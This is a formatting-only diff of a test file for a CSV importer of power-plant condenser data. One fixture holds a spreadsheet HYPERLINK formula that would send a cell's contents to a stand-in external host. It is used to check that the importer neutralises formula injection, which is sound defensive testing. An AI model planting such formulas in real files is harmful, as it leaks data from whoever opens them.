@@ -96,7 +96,12 @@ describe('checking a file (pass 1)', () => {
   });
 
   it('neutralises a formula in an echoed cell, in the error list and in the downloadable report', async () => {
-    const f = await writeCsv(tmp.file('injection.csv'), [US_HEADER, usRow(0, 480, { bp: '"=HYPERLINK(""http://x.example/?""&A1)"' }), usRow(1, 480, { t2: '@SUM(1+1)' }), usRow(2, 480, { flow: '-2+3' })]);
+    const f = await writeCsv(tmp.file('injection.csv'), [
+      US_HEADER,
+      usRow(0, 480, { bp: '"=HYPERLINK(""http://x.example/?""&A1)"' }),
+      usRow(1, 480, { t2: '@SUM(1+1)' }),
+      usRow(2, 480, { flow: '-2+3' }),
+    ]);
     const check = await checkImportFile(f, { mapping: US_MAPPING });
     expect(check.errors.map((e) => e.value)).toEqual(['\'=HYPERLINK("http://x.example/?"&A1)', "'@SUM(1+1)", "'-2+3"]);
     const report = formatRowErrorReportCsv(check.errors);
@@ -141,7 +146,10 @@ describe('importing samples (pass 2)', () => {
   });
 
   it('computes backpressure from condenser vacuum and barometer, row by row or from a fixed barometer', async () => {
-    const f = await writeCsv(tmp.file('vacuum.csv'), ['Time,Gross MW,Condenser Vacuum inHg,Barometer inHg,CW In °F,CW Out °F,CW Flow gpm', '2024-06-01T00:00Z,480,27.500,29.500,75,93,250000']);
+    const f = await writeCsv(tmp.file('vacuum.csv'), [
+      'Time,Gross MW,Condenser Vacuum inHg,Barometer inHg,CW In °F,CW Out °F,CW Flow gpm',
+      '2024-06-01T00:00Z,480,27.500,29.500,75,93,250000',
+    ]);
     const base = {
       timestamp: { column: 'Time', format: 'iso-8601-offset' },
       columns: {
@@ -191,7 +199,16 @@ describe('importing samples (pass 2)', () => {
       },
     };
     const { samples } = await importAll(f, { mapping });
-    expect(samples[0]).toMatchObject({ timestampUtc: Date.UTC(2024, 5, 1), loadMw: 400.5, backpressureKpa: 6.5, cwInletC: 18.5, cwOutletC: 28, cwFlowM3s: 10, hotwellC: 37.5, dissolvedOxygenPpb: 6.5 });
+    expect(samples[0]).toMatchObject({
+      timestampUtc: Date.UTC(2024, 5, 1),
+      loadMw: 400.5,
+      backpressureKpa: 6.5,
+      cwInletC: 18.5,
+      cwOutletC: 28,
+      cwFlowM3s: 10,
+      hotwellC: 37.5,
+      dissolvedOxygenPpb: 6.5,
+    });
     expect(samples[0]?.airRemovalKgS).toBeCloseTo(0.0025, 12);
     expect(samples[0]?.condensateFlowKgS).toBeCloseTo(300, 9);
   });
@@ -207,7 +224,11 @@ describe('importing samples (pass 2)', () => {
     ]);
     const { samples, summary } = await importAll(f, { mapping: US_MAPPING, steadiness: { ratingMw: 500 } });
     expect(samples.map((s) => s.validity)).toEqual(['ok', 'rise-not-positive', 'ttd-not-positive', 'low-load', 'out-of-range']);
-    expect(summary).toMatchObject({ rowsRead: 5, rowsOk: 1, rowsByReason: { 'rise-not-positive': 1, 'ttd-not-positive': 1, 'low-load': 1, 'out-of-range': 1 } });
+    expect(summary).toMatchObject({
+      rowsRead: 5,
+      rowsOk: 1,
+      rowsByReason: { 'rise-not-positive': 1, 'ttd-not-positive': 1, 'low-load': 1, 'out-of-range': 1 },
+    });
   });
 
   it('flags exactly the rows whose ±30 min window spans a load step above 2 % of rating', async () => {
